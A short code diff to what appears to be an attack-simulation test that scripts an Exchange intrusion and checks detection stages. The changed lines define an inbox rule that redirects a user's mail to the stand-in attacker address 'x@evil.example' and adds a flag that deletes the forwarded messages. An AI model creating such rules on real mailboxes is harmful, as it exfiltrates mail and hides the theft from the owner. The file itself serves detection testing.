@@ -25,7 +25,12 @@ def play(world: World) -> None:
             CLIENT, stem, query, "POST", status=status, agent="python-requests/2.31",
             back_status=status, auth=""))  # fmt: skip
     world.expect("initial-access", time + 2 * SECOND, "inbox rule made without a login")
-    rule = {"Name": "sync", "RedirectTo": "x@evil.example", "Mailbox": "g.haas"}
+    rule = {
+        "Name": "sync",
+        "RedirectTo": "x@evil.example",
+        "Mailbox": "g.haas",
+        "DeleteMessage": "True",
+    }
     cmdlets.run(world, host, time + 3 * SECOND, Cmdlet(
         "New-InboxRule", rule, caller="g.haas", process=cmdlets.ECP, client="ECP"))  # fmt: skip
     world.expect("collection-exfiltration", time + 3 * SECOND, "rule redirects mail outside")
